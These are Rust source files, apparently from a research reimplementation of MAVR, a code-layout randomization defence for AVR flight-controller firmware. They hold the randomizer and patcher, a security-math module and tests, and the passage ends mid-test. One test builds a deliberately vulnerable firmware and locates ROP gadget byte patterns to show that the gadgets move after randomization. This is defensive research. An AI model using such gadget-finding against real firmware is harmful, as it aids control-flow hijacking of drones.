        let labels = [("scenario", "prop"), ("loss", "0.0000")];
        reg.add_counter("campaign_boards_total", &labels, 1);
        reg.observe_sketch("campaign_detection_latency_cycles", &labels, v);
        reg.observe_histogram("campaign_packets_per_board", &labels, v % 4096);
    }
    reg
}

fn sketch_of(values: &[u64]) -> QuantileSketch {
    let mut s = QuantileSketch::new();
    for &v in values {
        s.record(v);
    }
    s
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn sketch_merge_is_commutative(a in pvec(0u64..4_000_000, 0..200),
                                   b in pvec(0u64..4_000_000, 0..200)) {
        let (sa, sb) = (sketch_of(&a), sketch_of(&b));
        let mut ab = sa.clone();
        ab.merge(&sb);
        let mut ba = sb.clone();
        ba.merge(&sa);
        prop_assert_eq!(&ab, &ba);
        prop_assert_eq!(ab.to_bytes(), ba.to_bytes());
    }

    #[test]
    fn sketch_merge_is_associative(a in pvec(0u64..4_000_000, 0..100),
                                   b in pvec(0u64..4_000_000, 0..100),
                                   c in pvec(0u64..4_000_000, 0..100)) {
        let (sa, sb, sc) = (sketch_of(&a), sketch_of(&b), sketch_of(&c));
        let mut left = sa.clone();
        left.merge(&sb);
        left.merge(&sc);
        let mut bc = sb.clone();
        bc.merge(&sc);
        let mut right = sa.clone();
        right.merge(&bc);
        prop_assert_eq!(left, right);
    }

    #[test]
    fn sketch_wire_format_round_trips(values in pvec(0u64..u64::MAX, 0..300)) {
        let s = sketch_of(&values);
        let back = QuantileSketch::from_bytes(&s.to_bytes());
        prop_assert_eq!(Some(s), back);
    }

    #[test]
    fn quantiles_stay_inside_the_error_bound(mut values in pvec(0u64..4_000_000, 1..400)) {
        let s = sketch_of(&values);
        values.sort_unstable();
        for q in [0.0f64, 0.1, 0.25, 0.5, 0.75, 0.9, 0.99, 1.0] {
            let exact = values[(q * (values.len() - 1) as f64).floor() as usize];
            let got = s.quantile(q).expect("non-empty sketch");
            // The answer is the floor of the bucket holding the exact
            // rank: never above it, and the bucket spans at most
            // 1/32 of its floor (values below 64 are exact).
            prop_assert!(got <= exact, "quantile({}) = {} > exact {}", q, got, exact);
            prop_assert!(
                exact - got <= got / 32,
                "quantile({}) = {} misses exact {} by more than 1/32",
                q, got, exact
            );
        }
        prop_assert_eq!(s.quantile(1.0), values.last().copied());
        prop_assert_eq!(s.quantile(0.0).unwrap() <= values[0], true);
    }

    #[test]
    fn sharded_merge_is_partition_invariant(values in pvec(0u64..4_000_000, 0..300),
                                            cuts in pvec(0usize..300, 0..6)) {
        // One worker folding every job...
        let whole = shard_registry(&values);
        // ...must expose byte-identically to any partition of the same
        // jobs across shards, merged in any order (reverse included).
        let mut bounds: Vec<usize> = cuts.iter().map(|c| c % (values.len() + 1)).collect();
        bounds.push(0);
        bounds.push(values.len());
        bounds.sort_unstable();
        let shards: Vec<MetricsRegistry> = bounds
            .windows(2)
            .map(|w| shard_registry(&values[w[0]..w[1]]))
            .collect();
        let mut forward = MetricsRegistry::new();
        for s in &shards {
            forward.merge(s);
        }
        let mut reverse = MetricsRegistry::new();
        for s in shards.iter().rev() {
            reverse.merge(s);
        }
        prop_assert_eq!(whole.to_prometheus(), forward.to_prometheus());
        prop_assert_eq!(whole.to_jsonl(), forward.to_jsonl());
        prop_assert_eq!(forward.to_prometheus(), reverse.to_prometheus());
        prop_assert_eq!(forward.to_jsonl(), reverse.to_jsonl());
    }
}
