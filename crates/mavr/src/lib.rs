//! MAVR: fine-grained code randomization for AVR flight controllers — the
//! paper's defensive contribution (§V, §VI).
//!
//! The defense has three phases:
//!
//! 1. **Preprocessing** ([`preprocess()`]) — on the host, before flashing:
//!    extract the function symbol table and the data-section function
//!    pointers, and prepend them to the Intel HEX image
//!    ([`hexfile::MavrContainer`]). The result is what gets uploaded to the
//!    MAVR external flash chip.
//! 2. **Randomization** ([`randomize()`]) — on the master processor, at boot
//!    or after a detected attack: draw a random permutation of the function
//!    blocks and relocate them.
//! 3. **Patching** (inside [`randomize::randomize`]) — as the binary streams
//!    to the application processor: retarget every absolute `call`/`jmp`
//!    (including switch-statement trampolines that point *into* a block,
//!    resolved by binary search over the old symbol table, §VI-B3) and
//!    rewrite every function pointer recorded in the data section.
//!
//! [`math`] carries the security analysis of §V-D and §VIII-B (brute-force
//! expectations and permutation entropy), and [`policy`] the randomization
//! frequency / flash-wear tradeoff of §V-C.
//!
//! # Example
//!
//! ```
//! use mavr::{randomize, RandomizeOptions};
//! use synth_firmware::{apps, build, BuildOptions};
//!
//! let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap();
//! let mut rng = mavr::seeded_rng(1);
//! let r = randomize(&fw.image, &mut rng, &RandomizeOptions::default()).unwrap();
//! assert_eq!(r.image.code_size(), fw.image.code_size());
//! assert_ne!(r.image.bytes, fw.image.bytes);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod math;
pub mod policy;
pub mod preprocess;
pub mod randomize;

pub use preprocess::preprocess;
pub use randomize::{randomize, RandomizeError, RandomizeOptions, RandomizedImage};

use rand::rngs::StdRng;
use rand::SeedableRng;

/// Seeded RNG for reproducible randomization in tests and benches. The
/// board simulation uses entropy-seeded RNGs instead.
pub fn seeded_rng(seed: u64) -> StdRng {
    StdRng::seed_from_u64(seed)
}
