//! The security analysis of §V-D and §VIII-B: brute-force expectations and
//! permutation entropy.

/// Exact `log2(n!)` in bits — the entropy of a uniform permutation of `n`
/// function blocks. §VIII-B: 800 symbols ⇒ 6567 bits, "computationally
/// secure against a brute force attack".
pub fn entropy_bits(n: u64) -> f64 {
    (1..=n).map(|k| (k as f64).log2()).sum()
}

/// `n!` as an f64; saturates to infinity above n ≈ 170, which is precisely
/// the paper's point about 800!.
pub fn factorial_f64(n: u64) -> f64 {
    entropy_bits(n).exp2()
}

/// Probability that a brute-force attacker succeeds exactly at attempt `j`
/// against one fixed permutation of `n_perms` candidates — the paper's
/// P(j) = 1/N for every j (§V-D).
pub fn success_probability_at(j: u64, n_perms: f64) -> f64 {
    if (j as f64) <= n_perms {
        1.0 / n_perms
    } else {
        0.0
    }
}

/// Expected attempts against one fixed permutation: E\[X\] = (N + 1) / 2.
/// This is the software-only strawman of §VIII-A.
pub fn expected_attempts_fixed(n_perms: f64) -> f64 {
    (n_perms + 1.0) / 2.0
}

/// Expected attempts when MAVR re-randomizes after every detected failure:
/// each attempt is an independent 1/N draw, so E\[X\] = N — the paper's
/// `(n! + n!)/2 = n!` argument (§V-D).
pub fn expected_attempts_rerandomized(n_perms: f64) -> f64 {
    n_perms
}

/// Entropy with `pad_choices` equally-likely padding amounts inserted
/// before each of the `n` blocks — the §VIII-B extension the paper
/// evaluated and found unnecessary. Adds `n * log2(pad_choices)` bits.
pub fn entropy_bits_with_padding(n: u64, pad_choices: u64) -> f64 {
    entropy_bits(n) + n as f64 * (pad_choices as f64).log2()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn entropy_matches_paper_section_viii_b() {
        let bits = entropy_bits(800);
        assert!((bits - 6567.0).abs() < 1.0, "log2(800!) = {bits:.1}");
    }

    #[test]
    fn table1_apps_entropy_ordering() {
        let plane = entropy_bits(917);
        let copter = entropy_bits(1030);
        let rover = entropy_bits(800);
        assert!(rover < plane && plane < copter);
        assert!(rover > 6000.0);
    }

    #[test]
    fn uniform_success_probability() {
        let n = 24.0;
        for j in 1..=24 {
            assert_eq!(success_probability_at(j, n), 1.0 / 24.0);
        }
        assert_eq!(success_probability_at(25, n), 0.0);
        // P sums to 1.
        let total: f64 = (1..=24).map(|j| success_probability_at(j, n)).sum();
        assert!((total - 1.0).abs() < 1e-12);
    }

    #[test]
    fn rerandomization_doubles_expected_work() {
        let n = factorial_f64(5);
        assert!((n - 120.0).abs() < 1e-9);
        let fixed = expected_attempts_fixed(n);
        let rerand = expected_attempts_rerandomized(n);
        assert!((fixed - 60.5).abs() < 1e-9);
        assert!((rerand - 120.0).abs() < 1e-9);
        assert!((rerand / fixed - 2.0).abs() < 0.02);
    }

    #[test]
    fn factorial_saturates() {
        assert!(factorial_f64(800).is_infinite());
        assert_eq!(factorial_f64(0), 1.0);
        assert_eq!(factorial_f64(1), 1.0);
        assert!((factorial_f64(4) - 24.0).abs() < 1e-9);
    }

    #[test]
    fn padding_adds_entropy() {
        let base = entropy_bits(800);
        let padded = entropy_bits_with_padding(800, 16);
        assert!((padded - base - 800.0 * 4.0).abs() < 1e-9);
    }
}
