//! The randomization engine and streaming patcher (§V-B2, §V-B3, §VI-B3).

use avr_core::decode::decode_at;
use avr_core::encode::encode;
use avr_core::image::{FirmwareImage, Symbol, SymbolKind};
use avr_core::Insn;
use rand::seq::SliceRandom;
use rand::Rng;

/// `icall`/`ijmp` and 16-bit function pointers reach only the low 128 KiB
/// of flash (a 16-bit word address). Functions referenced from
/// function-pointer tables must stay below this after shuffling — a
/// constraint the paper does not spell out but any ATmega2560
/// implementation must honor.
pub const ICALL_REACH_BYTES: u32 = 128 * 1024;

/// Options for the randomizer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RandomizeOptions {
    /// Keep functions that are targets of data-section function pointers
    /// within `icall` reach (see [`ICALL_REACH_BYTES`]). Disabling this on
    /// a large image produces indirect calls that jump to the wrong place.
    pub constrain_icall_targets: bool,
    /// Continue when a relative branch escapes its function block instead
    /// of failing. The resulting image is **broken by construction** —
    /// this exists for the ablation that shows why the paper needs
    /// `--no-relax` (§VI-B1).
    pub ignore_relaxed_branches: bool,
}

impl Default for RandomizeOptions {
    fn default() -> Self {
        RandomizeOptions {
            constrain_icall_targets: true,
            ignore_relaxed_branches: false,
        }
    }
}

/// Errors from randomization.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum RandomizeError {
    /// The movable function region is not contiguous (unsupported layout).
    NonContiguousText {
        /// First address where a gap or interleaving was found.
        addr: u32,
    },
    /// An absolute call/jump targets an address outside every symbol.
    UnmappableTarget {
        /// Address of the instruction.
        at: u32,
        /// The unmappable target (byte address).
        target: u32,
    },
    /// A relative call/jump crosses function blocks — the image was built
    /// with linker relaxation, which randomization cannot survive. This is
    /// the paper's motivation for `--no-relax` (§VI-B1).
    RelaxedBranch {
        /// Address of the offending instruction.
        at: u32,
    },
    /// A function-pointer slot holds a word address outside every function.
    BadFunctionPointer {
        /// Flash byte offset of the slot.
        loc: u32,
    },
    /// The icall-reach constraint cannot be satisfied (too much constrained
    /// code).
    ConstraintUnsatisfiable,
}

impl std::fmt::Display for RandomizeError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            RandomizeError::NonContiguousText { addr } => {
                write!(f, "movable text is not contiguous at {addr:#x}")
            }
            RandomizeError::UnmappableTarget { at, target } => {
                write!(f, "call/jmp at {at:#x} targets unmapped {target:#x}")
            }
            RandomizeError::RelaxedBranch { at } => write!(
                f,
                "relative branch at {at:#x} crosses function blocks (build with --no-relax)"
            ),
            RandomizeError::BadFunctionPointer { loc } => {
                write!(
                    f,
                    "function pointer at {loc:#x} points outside all functions"
                )
            }
            RandomizeError::ConstraintUnsatisfiable => {
                write!(f, "cannot keep all pointer-called functions in icall reach")
            }
        }
    }
}

impl std::error::Error for RandomizeError {}

/// Result of one randomization pass.
#[derive(Debug, Clone)]
pub struct RandomizedImage {
    /// The randomized, patched image (same size, same `text_end`, same
    /// symbol *names* at new addresses).
    pub image: FirmwareImage,
    /// `permutation[i] = j`: the movable function originally at rank `i`
    /// (address order) now sits at rank `j`.
    pub permutation: Vec<usize>,
    /// Patch statistics (what the paper's master processor does per boot).
    pub report: PatchReport,
}

/// Counters from the streaming patch pass (§V-B3, §VI-B3).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct PatchReport {
    /// Absolute `call` instructions retargeted.
    pub calls_patched: usize,
    /// Absolute `jmp` instructions retargeted (including the vector table
    /// and switch-statement trampolines).
    pub jumps_patched: usize,
    /// Of those, jumps whose target was *inside* a block (trampolines,
    /// resolved by binary search).
    pub trampolines_patched: usize,
    /// Function pointers rewritten in the data section.
    pub pointers_patched: usize,
}

/// Shuffle the function blocks of `image` and patch every reference.
pub fn randomize(
    image: &FirmwareImage,
    rng: &mut impl Rng,
    opts: &RandomizeOptions,
) -> Result<RandomizedImage, RandomizeError> {
    let movable: Vec<&Symbol> = image
        .symbols
        .iter()
        .filter(|s| s.kind == SymbolKind::Function)
        .collect();
    if movable.is_empty() {
        return Ok(RandomizedImage {
            image: image.clone(),
            permutation: Vec::new(),
            report: PatchReport::default(),
        });
    }

    // The movable region must be one contiguous span with nothing fixed
    // inside it.
    let region_start = movable[0].addr;
    let region_end = movable.last().unwrap().end();
    let mut cursor = region_start;
    for s in &movable {
        if s.addr != cursor {
            return Err(RandomizeError::NonContiguousText { addr: cursor });
        }
        cursor = s.end();
    }
    for s in &image.symbols {
        if s.kind != SymbolKind::Function && s.addr >= region_start && s.addr < region_end {
            return Err(RandomizeError::NonContiguousText { addr: s.addr });
        }
    }

    // Which movable functions are targets of data-section pointers?
    let mut constrained = vec![false; movable.len()];
    if opts.constrain_icall_targets {
        for &loc in &image.fn_ptr_locs {
            let word = image.read_word(loc);
            let byte = u32::from(word) * 2;
            if let Some(rank) = rank_of(&movable, byte) {
                constrained[rank] = true;
            }
        }
    }

    // Draw the permutation: a uniform shuffle of placement order, then
    // repair icall-reach violations by swapping violators with
    // unconstrained blocks placed low.
    let n = movable.len();
    let mut order: Vec<usize> = (0..n).collect();
    order.shuffle(rng);
    if opts.constrain_icall_targets {
        repair_constraints(&mut order, &movable, &constrained, region_start, rng)?;
    }

    // New address of each movable rank.
    let mut new_addr = vec![0u32; n];
    let mut cursor = region_start;
    for &rank in &order {
        new_addr[rank] = cursor;
        cursor += movable[rank].size;
    }
    debug_assert_eq!(cursor, region_end);

    // Relocate the blocks.
    let mut bytes = image.bytes.clone();
    for (rank, sym) in movable.iter().enumerate() {
        let src = sym.addr as usize..sym.end() as usize;
        let dst = new_addr[rank] as usize;
        bytes[dst..dst + sym.size as usize].copy_from_slice(&image.bytes[src]);
    }

    // Address translation for code targets.
    let map_addr = |old_byte: u32, at: u32| -> Result<u32, RandomizeError> {
        if let Some(rank) = rank_of(&movable, old_byte) {
            return Ok(new_addr[rank] + (old_byte - movable[rank].addr));
        }
        // Outside the movable region: fixed code (vector table) is fine.
        match image.symbol_containing(old_byte) {
            Some(_) => Ok(old_byte),
            None => Err(RandomizeError::UnmappableTarget {
                at,
                target: old_byte,
            }),
        }
    };

    // Streaming patch pass over the executable region: every absolute
    // call/jmp is retargeted; relative branches must stay inside their
    // (moved) block.
    let mut report = PatchReport::default();
    let mut off = 0u32;
    while off + 1 < image.text_end {
        let Some((insn, words)) = decode_at(&image.bytes, off as usize) else {
            break;
        };
        let new_off = map_addr(off, off).unwrap_or(off);
        match insn {
            Insn::Call { k } | Insn::Jmp { k } => {
                let old_target = k * 2;
                let new_target = map_addr(old_target, off)?;
                match insn {
                    Insn::Call { .. } => report.calls_patched += 1,
                    _ => {
                        report.jumps_patched += 1;
                        if let Some(rank) = rank_of(&movable, old_target) {
                            if old_target != movable[rank].addr {
                                report.trampolines_patched += 1;
                            }
                        }
                    }
                }
                let patched = match insn {
                    Insn::Call { .. } => Insn::Call { k: new_target / 2 },
                    _ => Insn::Jmp { k: new_target / 2 },
                };
                let ws = encode(&patched).expect("patched long branch re-encodes");
                let base = new_off as usize;
                bytes[base..base + 2].copy_from_slice(&ws[0].to_le_bytes());
                bytes[base + 2..base + 4].copy_from_slice(&ws[1].to_le_bytes());
            }
            Insn::Rcall { k } | Insn::Rjmp { k } => {
                // Target must stay inside the same function block.
                let target = off.wrapping_add(2).wrapping_add_signed(i32::from(k) * 2);
                let same_block = match (rank_of(&movable, off), rank_of(&movable, target)) {
                    (Some(a), Some(b)) => a == b,
                    // Fixed-region code may branch within itself.
                    (None, None) => true,
                    _ => false,
                };
                if !same_block && !opts.ignore_relaxed_branches {
                    return Err(RandomizeError::RelaxedBranch { at: off });
                }
            }
            _ => {}
        }
        off += words * 2;
    }

    // Patch data-section function pointers (16-bit word addresses).
    for &loc in &image.fn_ptr_locs {
        let word = image.read_word(loc);
        let old_byte = u32::from(word) * 2;
        if rank_of(&movable, old_byte).is_none() && image.symbol_containing(old_byte).is_none() {
            return Err(RandomizeError::BadFunctionPointer { loc });
        }
        let new_byte = map_addr(old_byte, loc)?;
        if new_byte >= ICALL_REACH_BYTES && opts.constrain_icall_targets {
            // Cannot happen when repair_constraints succeeded; a loud check
            // beats a silently truncated pointer.
            return Err(RandomizeError::ConstraintUnsatisfiable);
        }
        let new_word = (new_byte / 2) as u16;
        bytes[loc as usize..loc as usize + 2].copy_from_slice(&new_word.to_le_bytes());
        report.pointers_patched += 1;
    }

    // Rebuild the symbol table at the new addresses.
    let mut symbols: Vec<Symbol> = image
        .symbols
        .iter()
        .map(|s| {
            let mut s = s.clone();
            if s.kind == SymbolKind::Function {
                let rank = rank_of(&movable, s.addr).expect("movable symbol");
                s.addr = new_addr[rank];
            }
            s
        })
        .collect();
    symbols.sort_by_key(|s| s.addr);

    // permutation[i] = new rank of old rank i.
    let mut order_index = vec![0usize; n];
    for (pos, &rank) in order.iter().enumerate() {
        order_index[rank] = pos;
    }

    let out = FirmwareImage {
        device: image.device,
        bytes,
        symbols,
        text_end: image.text_end,
        fn_ptr_locs: image.fn_ptr_locs.clone(),
    };
    debug_assert!(out.validate().is_ok(), "{:?}", out.validate());
    Ok(RandomizedImage {
        image: out,
        permutation: order_index,
        report,
    })
}

/// Rank (index in address order) of the movable symbol containing
/// `byte_addr`, by binary search — the paper's §VI-B3 lookup.
fn rank_of(movable: &[&Symbol], byte_addr: u32) -> Option<usize> {
    let idx = movable.partition_point(|s| s.addr <= byte_addr);
    let rank = idx.checked_sub(1)?;
    movable[rank].contains(byte_addr).then_some(rank)
}

/// Move constrained blocks early enough in the placement order that they
/// stay within icall reach.
fn repair_constraints(
    order: &mut [usize],
    movable: &[&Symbol],
    constrained: &[bool],
    region_start: u32,
    rng: &mut impl Rng,
) -> Result<(), RandomizeError> {
    let limit = ICALL_REACH_BYTES;
    let total_constrained: u32 = constrained
        .iter()
        .zip(movable)
        .filter(|(c, _)| **c)
        .map(|(_, s)| s.size)
        .sum();
    if region_start + total_constrained > limit {
        return Err(RandomizeError::ConstraintUnsatisfiable);
    }
    // Iteratively swap violators with unconstrained blocks placed low.
    for _ in 0..order.len() * 4 {
        // Compute placement and find the first violator.
        let mut cursor = region_start;
        let mut violator_pos = None;
        let mut low_positions = Vec::new();
        for (pos, &rank) in order.iter().enumerate() {
            let end = cursor + movable[rank].size;
            if constrained[rank] && end > limit && violator_pos.is_none() {
                violator_pos = Some(pos);
            }
            if !constrained[rank] && end <= limit {
                low_positions.push(pos);
            }
            cursor = end;
        }
        let Some(vp) = violator_pos else {
            return Ok(());
        };
        if low_positions.is_empty() {
            return Err(RandomizeError::ConstraintUnsatisfiable);
        }
        let lp = low_positions[rng.random_range(0..low_positions.len())];
        order.swap(vp, lp);
    }
    Err(RandomizeError::ConstraintUnsatisfiable)
}

#[cfg(test)]
mod tests {
    use super::*;
    use avr_sim::{Machine, RunExit};
    use synth_firmware::{apps, build, BuildOptions};

    fn tiny() -> FirmwareImage {
        build(&apps::tiny_test_app(), &BuildOptions::safe_mavr())
            .unwrap()
            .image
    }

    #[test]
    fn randomized_image_is_well_formed() {
        let img = tiny();
        let r = randomize(
            &img,
            &mut crate::seeded_rng(1),
            &RandomizeOptions::default(),
        )
        .unwrap();
        r.image.validate().unwrap();
        assert_eq!(r.image.code_size(), img.code_size());
        assert_eq!(r.image.text_end, img.text_end);
        assert_eq!(r.image.function_count(), img.function_count());
        assert_ne!(r.image.bytes, img.bytes, "layout must actually change");
        // Same set of names, different addresses for most.
        let moved = img
            .functions()
            .filter(|s| r.image.symbol(&s.name).unwrap().addr != s.addr)
            .count();
        assert!(moved > img.function_count() / 2);
        // Rodata untouched except at the patched function-pointer slots.
        for off in img.text_end..img.code_size() {
            if img.fn_ptr_locs.iter().any(|&l| off == l || off == l + 1) {
                continue;
            }
            assert_eq!(
                r.image.bytes[off as usize], img.bytes[off as usize],
                "non-pointer rodata byte at {off:#x} changed"
            );
        }
    }

    #[test]
    fn permutation_is_a_bijection() {
        let img = tiny();
        let r = randomize(
            &img,
            &mut crate::seeded_rng(2),
            &RandomizeOptions::default(),
        )
        .unwrap();
        let n = r.permutation.len();
        assert_eq!(n, img.function_count());
        let mut seen = vec![false; n];
        for &p in &r.permutation {
            assert!(!seen[p]);
            seen[p] = true;
        }
    }

    #[test]
    fn randomized_firmware_still_runs() {
        // The acid test: shuffle, then boot and verify full behaviour.
        let img = tiny();
        for seed in 0..5 {
            let r = randomize(
                &img,
                &mut crate::seeded_rng(seed),
                &RandomizeOptions::default(),
            )
            .unwrap();
            let mut m = Machine::new_atmega2560();
            m.load_flash(0, &r.image.bytes);
            let exit = m.run(1_200_000);
            assert_eq!(
                exit,
                RunExit::CyclesExhausted,
                "seed {seed}: {:?}",
                m.fault()
            );
            assert!(
                m.heartbeat.toggles().len() >= 10,
                "seed {seed}: heartbeats stopped"
            );
        }
    }

    #[test]
    fn randomized_firmware_telemetry_still_valid() {
        let img = tiny();
        let r = randomize(
            &img,
            &mut crate::seeded_rng(9),
            &RandomizeOptions::default(),
        )
        .unwrap();
        let mut m = avr_sim::Machine::new_atmega2560();
        m.load_flash(0, &r.image.bytes);
        m.run(1_200_000);
        let mut gcs = mavlink_lite::GroundStation::new();
        gcs.ingest(&m.uart0.take_tx());
        assert_eq!(gcs.bad_checksums(), 0);
        assert!(gcs.heartbeats.len() >= 10);
        // And it still processes commands.
        m.uart0.inject(&gcs.param_set(b"KP", 3.0));
        m.run(1_200_000);
        assert_eq!(m.peek_data(synth_firmware::layout::PARAM_SET_COUNT), 1);
    }

    #[test]
    fn randomized_isr_still_ticks() {
        // The ISR is a movable function reached only through interrupt
        // vector 23 — this exercises MAVR's vector-table patching.
        let img = tiny();
        let r = randomize(
            &img,
            &mut crate::seeded_rng(11),
            &RandomizeOptions::default(),
        )
        .unwrap();
        assert_ne!(
            r.image.symbol("timer0_ovf_isr").unwrap().addr,
            img.symbol("timer0_ovf_isr").unwrap().addr,
            "seed 11 moves the ISR"
        );
        let mut m = Machine::new_atmega2560();
        m.load_flash(0, &r.image.bytes);
        m.run(1_200_000);
        assert!(m.fault().is_none());
        let clock = u16::from_le_bytes([
            m.peek_data(synth_firmware::layout::SOFT_CLOCK),
            m.peek_data(synth_firmware::layout::SOFT_CLOCK + 1),
        ]);
        assert!(
            clock > 50,
            "soft clock advanced under the new layout: {clock}"
        );
    }

    #[test]
    fn different_seeds_different_layouts() {
        let img = tiny();
        let a = randomize(
            &img,
            &mut crate::seeded_rng(1),
            &RandomizeOptions::default(),
        )
        .unwrap();
        let b = randomize(
            &img,
            &mut crate::seeded_rng(2),
            &RandomizeOptions::default(),
        )
        .unwrap();
        assert_ne!(a.permutation, b.permutation);
        assert_ne!(a.image.bytes, b.image.bytes);
    }

    #[test]
    fn same_seed_same_layout() {
        let img = tiny();
        let a = randomize(
            &img,
            &mut crate::seeded_rng(3),
            &RandomizeOptions::default(),
        )
        .unwrap();
        let b = randomize(
            &img,
            &mut crate::seeded_rng(3),
            &RandomizeOptions::default(),
        )
        .unwrap();
        assert_eq!(a.image, b.image);
    }

    #[test]
    fn relaxed_image_is_rejected() {
        // A stock-toolchain build has cross-function rcall/rjmp.
        let img = build(&apps::tiny_test_app(), &BuildOptions::safe_stock())
            .unwrap()
            .image;
        let err = randomize(
            &img,
            &mut crate::seeded_rng(1),
            &RandomizeOptions::default(),
        )
        .unwrap_err();
        assert!(matches!(err, RandomizeError::RelaxedBranch { .. }));
    }

    #[test]
    fn relaxed_image_forced_through_breaks() {
        // The ablation: ignore the relaxed branches and watch the image die.
        let img = build(&apps::tiny_test_app(), &BuildOptions::safe_stock())
            .unwrap()
            .image;
        let opts = RandomizeOptions {
            ignore_relaxed_branches: true,
            ..Default::default()
        };
        let r = randomize(&img, &mut crate::seeded_rng(1), &opts).unwrap();
        let mut m = Machine::new_atmega2560();
        m.load_flash(0, &r.image.bytes);
        let exit = m.run(2_000_000);
        assert!(
            !exit.is_healthy() || m.heartbeat.toggles().len() < 5,
            "a relax-built image should not survive randomization"
        );
    }

    #[test]
    fn fn_pointer_tables_are_patched() {
        let img = tiny();
        let r = randomize(
            &img,
            &mut crate::seeded_rng(4),
            &RandomizeOptions::default(),
        )
        .unwrap();
        for &loc in &img.fn_ptr_locs {
            let old_word = img.read_word(loc);
            let new_word = r.image.read_word(loc);
            let old_sym = img.symbol_containing(u32::from(old_word) * 2).unwrap();
            let new_sym = r.image.symbol_containing(u32::from(new_word) * 2).unwrap();
            assert_eq!(old_sym.name, new_sym.name, "pointer follows its function");
        }
    }

    #[test]
    fn icall_targets_stay_reachable() {
        // Build a big app (full SynthRover) and check the constraint holds
        // across several shuffles.
        let img = build(&apps::synth_rover(), &BuildOptions::safe_mavr())
            .unwrap()
            .image;
        assert!(img.code_size() > ICALL_REACH_BYTES);
        for seed in 0..3 {
            let r = randomize(
                &img,
                &mut crate::seeded_rng(seed),
                &RandomizeOptions::default(),
            )
            .unwrap();
            for &loc in &r.image.fn_ptr_locs {
                let word = r.image.read_word(loc);
                assert!(
                    u32::from(word) * 2 + 2 <= ICALL_REACH_BYTES,
                    "seed {seed}: pointer target escaped icall reach"
                );
            }
        }
    }

    #[test]
    fn patch_report_accounts_for_everything() {
        let img = tiny();
        let r = randomize(
            &img,
            &mut crate::seeded_rng(6),
            &RandomizeOptions::default(),
        )
        .unwrap();
        // Every recorded pointer slot was rewritten.
        assert_eq!(r.report.pointers_patched, img.fn_ptr_locs.len());
        // All 57 vectors are jmp instructions, plus the fillers' jumps.
        assert!(r.report.jumps_patched >= 57);
        // The generated app has switch trampolines.
        assert!(r.report.trampolines_patched > 0);
        // Call-heavy firmware: many absolute calls patched.
        assert!(r.report.calls_patched > 20);
    }

    #[test]
    fn gadgets_move_but_do_not_vanish() {
        // The paper's point exactly: randomization does not remove gadgets
        // — the same epilogues exist — it makes their *addresses* useless
        // to an attacker who only holds the unprotected binary.
        let img = build(&apps::tiny_test_app(), &BuildOptions::vulnerable_mavr())
            .unwrap()
            .image;
        let before = rop_classify(&img).expect("gadgets in the original");
        let r = randomize(
            &img,
            &mut crate::seeded_rng(33),
            &RandomizeOptions::default(),
        )
        .unwrap();
        let after = rop_classify(&r.image).expect("gadgets still present after shuffle");
        assert_ne!(
            (before.0, before.1),
            (after.0, after.1),
            "the gadget addresses must change"
        );
    }

    /// Minimal structural re-scan (kept local so `mavr` does not depend on
    /// the attack crate): find the stk_move and write_mem byte patterns.
    fn rop_classify(img: &FirmwareImage) -> Option<(u32, u32)> {
        use avr_core::{Insn, Reg, YZ};
        let mut stk = None;
        let mut wm = None;
        let mut addr = 0u32;
        while addr + 2 <= img.text_end {
            let (i0, w) = avr_core::decode::decode_at(&img.bytes, addr as usize)?;
            if i0
                == (Insn::Out {
                    a: 0x3e,
                    r: Reg::R29,
                })
                && stk.is_none()
            {
                stk = Some(addr);
            }
            if i0
                == (Insn::Std {
                    idx: YZ::Y,
                    q: 1,
                    r: Reg::R5,
                })
                && wm.is_none()
            {
                wm = Some(addr);
            }
            if let (Some(s), Some(m)) = (stk, wm) {
                return Some((s, m));
            }
            addr += w * 2;
        }
        None
    }

    #[test]
    fn permutations_are_statistically_uniform() {
        // The §V-D/§VIII-B security argument assumes a uniform draw over
        // the n! permutations. Chi-square the position of the first three
        // movable functions across many seeds: each should be uniform over
        // the n ranks.
        let img = tiny();
        let n = img.function_count();
        let trials = 1200usize;
        let mut counts = vec![vec![0u32; n]; 3];
        for seed in 0..trials as u64 {
            let r = randomize(
                &img,
                &mut crate::seeded_rng(seed),
                &RandomizeOptions::default(),
            )
            .unwrap();
            for f in 0..3 {
                counts[f][r.permutation[f]] += 1;
            }
        }
        let expected = trials as f64 / n as f64; // 20 per cell
        for (f, row) in counts.iter().enumerate() {
            let chi2: f64 = row
                .iter()
                .map(|&c| {
                    let d = f64::from(c) - expected;
                    d * d / expected
                })
                .sum();
            // df = n - 1 = 59; the 99.9% quantile is ~99. Allow margin.
            assert!(
                chi2 < 110.0,
                "function {f}: chi-square {chi2:.1} over {n} positions — not uniform"
            );
        }
    }

    #[test]
    fn randomization_has_zero_runtime_overhead() {
        // §IX: "MAVR does not use any runtime data structures or
        // monitoring, thus making it very efficient with minimal overhead."
        // Stronger: zero — the randomized binary executes the same
        // instruction mix (absolute branches keep their width and cycle
        // cost), so the control loop runs at an identical rate.
        let img = tiny();
        let r = randomize(
            &img,
            &mut crate::seeded_rng(21),
            &RandomizeOptions::default(),
        )
        .unwrap();
        let rate = |bytes: &[u8]| {
            let mut m = Machine::new_atmega2560();
            m.load_flash(0, bytes);
            m.run(2_000_000);
            assert!(m.fault().is_none());
            m.heartbeat.toggles().len()
        };
        let original = rate(&img.bytes);
        let randomized = rate(&r.image.bytes);
        assert_eq!(
            original, randomized,
            "identical heartbeat rate: randomization costs zero runtime cycles"
        );
    }

    #[test]
    fn fixed_bootloader_survives_randomization_verbatim() {
        // §VI-B4's warning, demonstrated: pinned code keeps its address and
        // bytes across randomization, so its gadgets stay aim-able.
        let mut opts = BuildOptions::safe_mavr();
        opts.serial_bootloader = true;
        let img = build(&apps::tiny_test_app(), &opts).unwrap().image;
        let bl = img.symbol("__bootloader").unwrap().clone();
        let r = randomize(
            &img,
            &mut crate::seeded_rng(5),
            &RandomizeOptions::default(),
        )
        .unwrap();
        let bl2 = r.image.symbol("__bootloader").unwrap();
        assert_eq!(bl2.addr, bl.addr, "fixed code must not move");
        assert_eq!(
